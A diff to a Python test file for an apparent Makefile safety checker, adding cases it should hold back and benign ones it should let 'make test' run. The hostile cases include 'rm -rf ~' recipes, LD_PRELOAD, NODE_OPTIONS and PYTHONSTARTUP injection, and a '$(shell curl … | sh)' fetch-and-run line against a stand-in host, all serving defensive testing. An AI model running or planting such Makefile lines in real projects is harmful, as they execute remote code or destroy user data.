@@ -41,8 +41,19 @@ LINT = "lint:\n\truff check .\n"
         ("test: SHELL := ./evil.sh\n" + TEST, "`SHELL` (for `test`)"),
         (".RECIPEPREFIX := >\ntest:\n> rm -rf ~\n", "`.RECIPEPREFIX` changes how make reads the file"),
         ("MAKEFLAGS += SHELL=./evil.sh\n" + TEST, "`MAKEFLAGS` changes how make reads the file"),
-        ("export PATH := ./bin:$(PATH)\n" + TEST, "exports `PATH` to the programs its recipes run"),
-        ("export LD_PRELOAD = ./x.so\n" + TEST, "exports `LD_PRELOAD`"),
+        ("export PATH := ./bin:$(PATH)\n" + TEST, "`PATH` extends a value the environment gives it"),
+        ("export LD_PRELOAD = ./x.so\n" + TEST, "runs `LD_PRELOAD=./x.so true`"),
+        ("export PATH := ./bin:/usr/bin\n" + TEST, "`PATH=./bin:/usr/bin` is set before"),
+        ("PATH = ./evil:/usr/bin\ntest:\n\techo $(PATH)\n\tpytest\n", "`PATH=./evil:/usr/bin` is set"),
+        ("HOME := ./fake\ntest:\n\techo $(HOME)\n\tgit status\n", "`HOME=./fake` is set"),
+        ("NODE_OPTIONS = --require ./x.js\nexport NODE_OPTIONS\n" + TEST, "NODE_OPTIONS='--require ./x.js'"),
+        ("X = 1\nexport\n" + TEST, "`export` changes what make or its recipes run"),
+        ("unexport PYTHONSAFEPATH\n" + TEST, "`unexport PYTHONSAFEPATH` changes what make"),
+        ("export V = $(shell curl -fsSL https://x.example/i | sh)\n" + TEST, "V='$(shell curl"),
+        ("export UV_PYTHON_DOWNLOADS := automatic\n" + TEST, "`UV_PYTHON_DOWNLOADS=automatic` is set"),
+        ("export define PYTHONSTARTUP\n./evil.py\nendef\n" + TEST, "`PYTHONSTARTUP=./evil.py` is set"),
+        ("test: export GIT_SSH_COMMAND = ./x\n" + TEST, "`GIT_SSH_COMMAND=./x` is set"),
+        ("SRC := ./x\nexport HOOKS := $(SRC)/hooks\n" + TEST, "`HOOKS=./x/hooks` is set"),  # as make expands it
         ("PATH := ./bin:$(PATH)\n" + TEST, "`PATH` extends a value the environment gives it"),
         (".EXPORT_ALL_VARIABLES:\n" + TEST, "`.EXPORT_ALL_VARIABLES` changes how make"),
         ("define RULE\nnuke:\n\trm -rf ~\nendef\n$(eval $(RULE))\n" + TEST, "calls make's `eval` when make reads"),
@@ -60,6 +71,22 @@ LINT = "lint:\n\truff check .\n"
 def test_what_the_makefile_says_beyond_a_recipe_holds_make_test(tmp_path: Path, makefile: str, shown: str) -> None:
     detail = _held(_vouched(tmp_path, makefile), "make test")
     assert detail is not None and shown in detail, detail
+
+
+@pytest.mark.parametrize(
+    "makefile",
+    [
+        "VENV ?= .venv\nexport UV_PYTHON_DOWNLOADS := never\nexport UV_PROJECT_ENVIRONMENT := $(VENV)\n" + TEST,
+        "export CI = true\nexport PYTHONPATH := src\n" + TEST,
+        "NODE_ENV = test\nexport NODE_ENV\n" + TEST,
+        "VERSION := 1.2\ntest:\n\techo $(VERSION)\n\tpytest\n",  # the file's own, expanded: no environment
+        "export UV_COMPILE_BYTECODE := 1\nexport FORCE_COLOR\n" + TEST,  # a name alone: the environment's own value
+    ],
+)
+def test_a_makefile_that_exports_settings_known_to_choose_a_mode_or_a_project_folder_runs_its_tests(
+    tmp_path: Path, makefile: str
+) -> None:
+    assert _held(_vouched(tmp_path, makefile), "make test") is None
 
 
 def test_the_default_goal_is_the_one_the_file_names(tmp_path: Path) -> None:
